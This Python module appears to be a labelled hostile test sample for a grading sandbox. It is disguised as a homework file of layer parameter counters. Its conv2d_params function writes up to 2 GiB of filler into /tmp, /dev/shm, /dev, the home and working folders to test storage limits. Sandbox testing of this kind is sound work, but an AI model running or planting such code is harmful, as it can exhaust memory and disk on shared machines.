"""Hostile sample: conv2d_params writes 1 MiB blocks into /tmp, /dev/shm, its home, $TMPDIR and its
working folder (tmpfs mounts that, uncapped, may take half the machine's memory each) and into
/dev itself, up to 2 GiB each; then it reports where it was stopped and how much it wrote."""
import os

LIMIT_MIB = 2048


def _fill(folder):
    block, written = b"x" * 2**20, 0
    try:
        with open(os.path.join(folder, "hw3-fill"), "wb") as handle:
            while written < LIMIT_MIB:
                handle.write(block)
                handle.flush()
                written += 1
        return f"not stopped after {written} MiB"
    except OSError as exc:
        return f"stopped after {written} MiB ({exc.strerror})"


def conv2d_params(kernel_size, in_channels, filters, use_bias=True):
    places = ["/tmp", "/dev/shm", os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp"), os.getcwd(), "/dev"]
    findings = {place: _fill(place) for place in places}
    for place in places:
        try:
            os.remove(os.path.join(place, "hw3-fill"))
        except OSError:
            pass
    raise RuntimeError(repr(findings))


def dense_params(in_features, units):
    return in_features * units + units


def simple_rnn_params(input_dim, units):
    return units * (input_dim + units) + units


def lstm_params(input_dim, units):
    return 4 * (units * (input_dim + units) + units)


def gru_params(input_dim, units, reset_after=True):
    return 3 * (units * (input_dim + units) + units) + (3 * units if reset_after else 0)

